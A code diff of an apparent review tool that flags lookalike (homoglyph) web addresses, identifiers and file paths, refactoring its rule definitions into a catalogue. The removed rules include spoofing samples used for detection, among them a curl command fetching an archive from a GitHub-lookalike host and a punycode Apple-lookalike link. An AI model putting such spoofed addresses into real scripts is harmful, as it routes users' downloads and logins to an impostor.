@@ -7,18 +7,15 @@ import unicodedata
 from collections.abc import Iterable, Iterator
 
 from reviewloop.analysis.contract import (
-    SECURITY,
-    SHOULD,
     ChangeCheck,
     ChangeView,
-    Example,
     FileCheck,
     Hit,
-    Rule,
     SourceFile,
     Span,
 )
 from reviewloop.domain.hidden_characters import Hidden, find_hidden
+from reviewloop.rules.catalogue import rule
 from reviewloop.rules.diff.letters import MIXED, is_at_home, outline, quoted, taken_for
 
 _MOST_ADDRESSES = 20  # findings for a file
@@ -26,34 +23,11 @@ _HOST = re.compile(r"\b(?:https?|wss?|ftp|ssh|git)://([^\s/?#\\\"'<>`)\]}]{1,255
 _SLASHES = "\u2044\u2215\u29f8\uff0f"
 _DOTLESS_I = "\u0131"  # an ordinary letter of Turkish names
 
-_ADDRESS = Rule(
-    id="diff/confusable-address",
-    reviewer=SECURITY,
-    severity=SHOULD,
-    title="The host of an address looks like another one",
-    why="Letters of other scripts make a host that reads like a known one and belongs to somebody "
-    "else: downloads, keys and logins go there.",
-    fix="Retype the address, or write it in its `xn--` form with a comment that says whose it is.",
-    category="hidden-text",
-    source="https://www.unicode.org/reports/tr39/",
-    in_examples=True,
-    bad=(
-        Example("setup.sh", "curl https://git\u04bbub.com/tool | tar x\n"),
-        Example("README.md", "[keys](https://xn--pple-43d.com/)\n"),
-        Example("app.py", 'URL = "https://github.com\u2215org\u2215tool.zip.example.net/x"\n'),
-    ),
-    good=(
-        Example("README.md", "https://m\u00fcnchen.de/ and https://xn--mnchen-3ya.de/\n"),
-        Example(
-            "app.py",
-            'URL = "https://\u043f\u0440\u0435\u0437\u0438\u0434\u0435\u043d\u0442.\u0440\u0444/"\n',
-        ),
-        Example("app.py", 'URL = "https://k\u0131z\u0131lay.org.tr/"\n'),
-    ),
-)
+_ADDRESS = rule("diff/confusable-address")
 
 
-def _check_addresses(file: SourceFile) -> Iterator[Hit]:
+def find_confusable_addresses(file: SourceFile) -> Iterator[Hit]:
+    """Yield the web addresses of a file that look like other ones."""
     told = 0
     for number, line in enumerate(file.lines, 1):
         if line.isascii() and "xn--" not in line:
@@ -92,7 +66,9 @@ def _decoded(label: str) -> str:
         return label
 
 
-ADDRESSES = FileCheck("addresses", (_ADDRESS,), lambda file: bool(file.text), _check_addresses)
+ADDRESSES = FileCheck(
+    "addresses", (_ADDRESS,), lambda file: bool(file.text), find_confusable_addresses
+)
 
 
 _NAME = re.compile(r"(?<!\w)[^\W\d]\w{2,80}(?!\w)")
@@ -106,38 +82,12 @@ _STANDARD = frozenset(
      "admin", "password", "token", "secret")
 )  # fmt: skip
 
-_IDENTIFIER = Rule(
-    id="diff/confusable-name",
-    reviewer=SECURITY,
-    severity=SHOULD,
-    title="A name looks like another one and is not the same",
-    why="The reader takes the two for one: a call or a check goes elsewhere than it seems to "
-    "(CVE-2021-42694). Python even reads bold and fullwidth letters as plain ones, which hides a "
-    "call from searches.",
-    fix="Retype the name with the letters it seems to have, or give it another name.",
-    category="hidden-text",
-    source="https://www.unicode.org/reports/tr39/",
-    in_examples=True,
-    hard=True,
-)
-_PATH = Rule(
-    id="diff/confusable-path",
-    reviewer=SECURITY,
-    severity=SHOULD,
-    title="The name of a file is not what it looks like",
-    why="A second file beside one of the same look is loaded, run or reviewed in its place; "
-    "characters that nobody sees do the same, or turn the ending around (`exe` shown as `txt`).",
-    fix="Rename the file with ordinary letters, and find out how it came here.",
-    category="hidden-text",
-    source="https://www.unicode.org/reports/tr36/",
-    in_tests=True,
-    in_examples=True,
-    in_fixtures=True,
-    hard=True,
-)
+_IDENTIFIER = rule("diff/confusable-name")
+_PATH = rule("diff/confusable-path")
 
 
-def _check_names(view: ChangeView) -> Iterator[Hit]:
+def find_confusable_names(view: ChangeView) -> Iterator[Hit]:
+    """Yield names in code, and of files, that look like other ones."""
     yield from _path_hits(view)
     candidates = [(file, _odd_names(file)) for file in view.files]
     if any(odd for _, odd in candidates):
@@ -232,4 +182,4 @@ def _odd(text: str) -> str:
     return ", ".join(dict.fromkeys(names))
 
 
-NAMES = ChangeCheck("confusable names", (_IDENTIFIER, _PATH), _check_names)
+NAMES = ChangeCheck("confusable names", (_IDENTIFIER, _PATH), find_confusable_names)
